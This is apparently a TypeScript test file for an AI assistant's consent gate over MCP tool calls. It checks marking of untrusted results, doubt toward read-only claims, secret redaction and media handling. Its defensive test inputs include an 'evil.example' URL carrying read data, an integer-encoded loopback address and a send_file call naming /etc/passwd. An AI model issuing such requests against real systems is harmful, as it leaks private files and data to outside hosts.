import { afterEach, expect, test } from 'vitest';
import { z } from 'zod';
import { ConversationLog } from '../../../src-main/assistant/conversation-log.ts';
import { foldHistory } from '../../../src-main/assistant/history.ts';
import { ToolCalls } from '../../../src-main/assistant/tool-calls.ts';
import { notAccepted } from '../../../src-main/models/accepted-media.ts';
import { requestBody } from '../../../src-main/models/anthropic/request-body.ts';
import type { ConsentAnswer } from '../../../src-main/policy/consent.ts';
import { TEMPLATE_SERVERS } from '../../../src-main/policy/mcp/known-servers.ts';
import { effectsOfMcpCall, type McpServerFacts } from '../../../src-main/policy/mcp/mcp-call.ts';
import { KnownSecrets } from '../../../src-main/secrets/known-secrets.ts';
import type { AssessContext, ToolInput, ToolResult } from '../../../src-main/tools/contract.ts';
import { defineTool } from '../../../src-main/tools/define-tool.ts';
import { ConversationToolset } from '../../../src-main/tools/registry/conversation-toolset.ts';
import type { ConversationEvent, Mark } from '../../../src-preload/contract/events.ts';
import { allowAll } from '../../fixtures/allow-all.ts';
import { anyWords } from '../../fixtures/any-words.ts';
import { MemoryEvents } from '../../fixtures/memory-events.ts';
import { forgottenImages } from '../../fixtures/memory-images.ts';
import { gateWith, User, yesOnce } from '../../fixtures/memory-ports.ts';
import { noCheckpoints } from '../../fixtures/no-checkpoints.ts';
import { noProvenance } from '../../fixtures/no-provenance.ts';
import { ToolHarness } from '../../fixtures/tool-harness.ts';

/** Tools of a server that answers in this process, through the registry, the gate and the log as every other. */

const SECRET = 'sk-not-for-anybody-4242';

let harness: ToolHarness | undefined;
afterEach(async () => {
  await harness?.dispose();
  harness = undefined;
});

interface FakeTool {
  readonly name: string;
  readonly annotations?: object;
  readonly answer?: ToolResult;
}

function rig(answering: (asked: number) => ConsentAnswer, facts: Partial<McpServerFacts>, ...tools: FakeTool[]) {
  harness = new ToolHarness({ consent: allowAll });
  const { registry, environment, workspace } = harness;
  const server: McpServerFacts = { server: 'fake', text: 'outside', remoteHost: null, classes: {}, ...facts };
  const arrived: { readonly tool: string; readonly input: ToolInput }[] = [];
  for (const { name, annotations = {}, answer = { text: 'done', isError: false } } of tools) {
    const plain = defineTool({
      name: `fake__${name}`,
      access: 'read',
      description: 'A tool',
      input: z.object({}),
      words: anyWords,
      execute: async () => '',
    });
    const prepare = (input: ToolInput) => ({
      assess: async (context: AssessContext) => {
        const call = { tool: name, annotations, inputSchema: {}, input };
        const access = await effectsOfMcpCall(server, call, { ...context, wasFile: async () => false });
        return {
          access,
          execute: async () => {
            arrived.push({ tool: name, input });
            return answer;
          },
        };
      },
    });
    const inputSchema = { type: 'object', additionalProperties: true };
    registry.register({ category: 'mcp', tool: { ...plain, inputSchema, prepare } });
  }
  registry.buildAll();
  const user = new User((_, asked) => answering(asked));
  const { gate, rules } = gateWith(user, { realWorkspace: workspace });
  const store = new MemoryEvents();
  const log = new ConversationLog(store, 'conversation-1', 'turn-1', () => undefined);
  const knownSecrets = new KnownSecrets(() => [SECRET]);
  const kept = {
    beforeImages: forgottenImages(),
    checkpoints: noCheckpoints,
    provenance: noProvenance,
    knownSecrets,
    maxResultChars: 40_000,
    askedModels: undefined,
  };
  const services = { tools: new ConversationToolset({ registry }), gate, environment, ...kept };
  let calls = 0;
  const call = (tool: string, input: ToolInput = {}) => {
    calls += 1;
    const requested = { id: `c${calls}`, name: `fake__${tool}`, input };
    return new ToolCalls(services, log, 'model', new AbortController().signal).run([requested]);
  };
  const ofType = <T extends ConversationEvent['type']>(type: T) => store.ofType(type);
  const asked = () => user.asked.map(({ reason }) => reason.code);
  return { call, asked, arrived, ofType, log, store, rules, harness, user };
}

const always = (): ConsentAnswer => yesOnce;
const never = (): ConsentAnswer => ({ answer: 'deny', by: 'user' });

test('a reviewed read runs without asking and marks what it brought; a change is then asked about each time', async () => {
  const classes = { list: 'read', save: 'write' } as const;
  const it = rig(always, { classes }, { name: 'list' }, { name: 'save' });
  await it.call('list');
  const source = 'list of the MCP server fake';
  const marks: readonly Mark[] = [
    { kind: 'untrusted', source },
    { kind: 'private', source },
  ];
  expect(it.ofType('tool_result')).toMatchObject([{ marks }]);
  await it.call('save');
  await it.call('save');
  expect(it.asked()).toEqual(['mcp_write_untrusted', 'mcp_write_untrusted']);
  expect(it.user.asked[0]).toMatchObject({ marks, offers: [] });
});

test.each<[McpServerFacts['text'], readonly string[]]>([
  ['public', ['untrusted']],
  ['own', ['private']],
])('text that was declared %s marks %j', async (text, kinds) => {
  const it = rig(always, { text, classes: { list: 'read' } }, { name: 'list' });
  await it.call('list');
  expect(it.ofType('tool_result')[0]?.marks?.map(({ kind }) => kind)).toEqual(kinds);
});

test('a read-only claim does not let a tool run without asking, and a rule for the tool covers only that tool', async () => {
  const claims = { readOnlyHint: true };
  const it = rig(never, {}, { name: 'delete_all', annotations: claims });
  await it.call('delete_all');
  expect(it.asked()).toEqual(['mcp_claim_doubtful']);
  expect(it.arrived).toEqual([]);
});

test('an address is judged although the tool may run, and the call that names it does not arrive', async () => {
  const it = rig(never, { classes: { list: 'read', fetch: 'read' } }, { name: 'list' }, { name: 'fetch' });
  await it.call('fetch', { page: 'https://example.org/' });
  expect(it.asked()).toEqual([]);
  await it.call('list');
  await it.call('fetch', { options: { pages: ['https://good.example/?next=http://2130706433/'] } });
  await it.call('fetch', { page: 'https://evil.example/?q=what+was+read' });
  expect(it.asked()).toEqual(['private_network', 'address_composed']);
  expect(it.arrived.map(({ tool }) => tool)).toEqual(['fetch', 'list']);
});

test('a file that is to be sent must be one that tools may read', async () => {
  const it = rig(always, { known: TEMPLATE_SERVERS.whatsapp }, { name: 'send_file' });
  it.harness.put('picture.png', 'x');
  await it.call('send_file', { recipient: '49', media_path: '/etc/passwd' });
  expect(it.asked()).toEqual([]);
  expect(it.ofType('tool_result')).toMatchObject([{ outcome: 'declined' }]);
  await it.call('send_file', { recipient: '49', media_path: `${it.harness.workspace}/picture.png` });
  expect(it.asked()).toEqual(['send']);
  expect(it.arrived).toHaveLength(1);
});

test('pictures and sounds of a result are kept as they came; a secret in its texts is not', async () => {
  const image = { type: 'image', mediaType: 'image/png', data: Buffer.from('a picture').toString('base64') } as const;
  const audio = { type: 'audio', mediaType: 'audio/wav', data: Buffer.from(SECRET).toString('base64') } as const;
  const text = `key ${SECRET}\n[image: image/png, 9 bytes]\n[audio: audio/wav, 23 bytes]`;
  const parts = [{ type: 'text', text: `key ${SECRET}` } as const, image, audio];
  const it = rig(always, { classes: { look: 'read' } }, { name: 'look', answer: { text, isError: false, parts } });
  await it.call('look');
  const [result] = it.ofType('tool_result');
  expect(result?.parts?.slice(1)).toEqual([image, audio]);
  expect(JSON.stringify(result)).not.toContain(SECRET);
});

test('the model is given pictures as pictures, and of a sound that it was there', async () => {
  const image = { type: 'image', mediaType: 'image/png', data: 'QUJD' } as const;
  const audio = { type: 'audio', mediaType: 'audio/wav', data: 'UklGRg==' } as const;
  const text = '[image: image/png, 3 bytes]\n[audio: audio/wav, 4 bytes]';
  const answer = { text, isError: false, parts: [image, audio] };
  const it = rig(always, { classes: { look: 'read' } }, { name: 'look', answer });
  it.log.append({ type: 'user_message', content: [{ type: 'text', text: 'Look.' }] });
  const block = { type: 'tool_use', id: 'c1', name: 'fake__look', input: {} } as const;
  it.log.append({ type: 'block', block });
  it.log.append({ type: 'round_end', stopReason: 'tool_use' });
  await it.call('look');
  const { messages } = foldHistory(it.store.read());
  const request = { model: 'claude-sonnet-4-5', system: '', messages, tools: [], signal: new AbortController().signal };
  const body = requestBody(request, {
    refusedThinking: new Set(),
    withoutThinkingParameter: false,
    withoutDeferral: false,
  });
  expect(body.messages.at(-1)?.content).toMatchObject([
    {
      type: 'tool_result',
      content: [
        { type: 'text', text: `${text}\n${notAccepted(audio).text}` },
        { type: 'image', source: { type: 'base64', media_type: 'image/png', data: 'QUJD' } },
      ],
    },
  ]);
  expect(JSON.stringify(body)).not.toContain('UklGRg');
});
